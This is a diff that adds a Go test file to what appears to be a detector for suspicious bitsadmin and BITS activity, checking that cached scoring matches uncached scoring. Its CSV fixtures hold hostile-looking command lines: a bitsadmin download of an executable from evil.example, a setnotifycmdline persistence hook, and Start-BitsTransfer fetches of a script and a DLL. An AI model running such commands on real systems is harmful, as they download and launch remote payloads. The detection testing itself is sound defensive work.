@@ -1,0 +1,74 @@
+package command
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"bitsscore/src/detect"
+	"bitsscore/src/internal/testevents"
+)
+
+// hideVerdict hides a detector's Verdicter methods, so a chunkScorer
+// encodes every cell of every record.
+type hideVerdict struct{ detect.Detector }
+
+// The verdict cache is only a way to write the same bytes: a reply written
+// from cached cells equals the reply written cell by cell, whatever the
+// chunk's layout (outputs present or not, their __mv_ companions present
+// or not, CommandLine coalesced from ProcessCommandLine, multivalue).
+func TestVerdictCellsChangeNoByte(t *testing.T) {
+	if _, ok := detect.NewSPL().(detect.Verdicter); !ok {
+		t.Fatal("the default detector is no detect.Verdicter: the cache is never used")
+	}
+	standard := testevents.Body(2000, 7)
+	bodies := map[string]string{
+		"standard": string(standard),
+		"no __mv_ columns": "CommandLine,Image,_chunked_idx\n" +
+			"bitsadmin /transfer x http://evil.example/a.exe C:\\Users\\Public\\a.exe,C:\\Windows\\System32\\bitsadmin.exe,0\n" +
+			"notepad.exe,C:\\Windows\\System32\\notepad.exe,1\n" +
+			",,2\n",
+		"ProcessCommandLine only": "ProcessCommandLine,Image,_chunked_idx\n" +
+			"bitsadmin /reset,C:\\Windows\\System32\\bitsadmin.exe,0\n" +
+			"cmd.exe /c dir,C:\\Windows\\System32\\cmd.exe,1\n",
+		"outputs present": "CommandLine,IsBitsAdmin,SuspicionScore,__mv_SuspicionScore,Image\n" +
+			"bitsadmin /setnotifycmdline j c:\\temp\\x.exe,1,9,,C:\\Windows\\System32\\bitsadmin.exe\n" +
+			"whoami,,,,C:\\Windows\\System32\\whoami.exe\n",
+		"only some __mv_ present": "CommandLine,Image,__mv_IsPowerShell,__mv_HasReset\n" +
+			"Start-BitsTransfer -Source https://a.example/x.ps1,C:\\pwsh.exe,,\n" +
+			"x,y,,\n",
+		"multivalue": "CommandLine,Image,__mv_CommandLine,__mv_Image\n" +
+			"\"bitsadmin /list\nStart-BitsTransfer -Source http://a.example/b.dll\",C:\\Windows\\System32\\bitsadmin.exe,\"$bitsadmin /list$;$Start-BitsTransfer -Source http://a.example/b.dll$\",\n",
+	}
+	for name, body := range bodies {
+		t.Run(name, func(t *testing.T) {
+			cached := newChunkScorer(detect.NewSPL())
+			plain := newChunkScorer(hideVerdict{detect.NewSPL()})
+			if plain.verdicter != nil {
+				t.Fatal("hideVerdict did not hide the Verdicter")
+			}
+			// Twice: the second chunk must find the cache emptied and refilled.
+			for range 2 {
+				want, err := plain.score([]byte(body))
+				if err != nil {
+					t.Fatal(err)
+				}
+				got, err := cached.score([]byte(body))
+				if err != nil {
+					t.Fatal(err)
+				}
+				if !bytes.Equal(got, want) {
+					t.Errorf("cached reply differs:\n%s", cmp.Diff(strings.Split(string(want), "\n"), strings.Split(string(got), "\n")))
+				}
+			}
+			if name == "standard" && len(cached.verdictCells) == 0 {
+				t.Error("the standard layout did not use the verdict cache")
+			}
+			if name == "ProcessCommandLine only" && len(cached.verdictCells) != 0 {
+				t.Error("the cache was used though CommandLine, an appended output, is not decided by the verdict")
+			}
+		})
+	}
+}
